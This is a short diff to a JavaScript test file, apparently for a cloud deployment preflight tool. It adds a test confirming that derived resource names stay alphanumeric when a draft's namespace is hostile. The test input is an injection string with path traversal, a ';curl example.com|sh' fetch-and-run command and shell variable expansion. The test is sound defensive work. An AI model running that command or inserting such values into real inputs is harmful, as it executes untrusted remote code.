@@ -83,3 +83,9 @@ test('what a preflight looks at holds no secret, and its digest does not depend 
   expect(subjectDigestOf(one)).not.toBe(subjectDigestOf({ ...one, location: 'northeurope' }));
   expect(subjectDigestOf(one)).not.toBe(subjectDigestOf({ ...one, rotatedAt: '2026-01-05T10:00:00.000Z' }));
 });
+
+test('a draft’s namespace leads nowhere else, and into no command', () => {
+  const namespace = 'demo/../other?x=;curl example.com|sh #${HOME}';
+  const { resourceGroup, keyVault, redis, dnsLabel } = derivedNames(subject('7.9.2', { namespace }));
+  for (const name of [resourceGroup, keyVault, redis ?? '', dnsLabel]) expect(name).toMatch(/^[A-Za-z0-9-]*$/);
+});
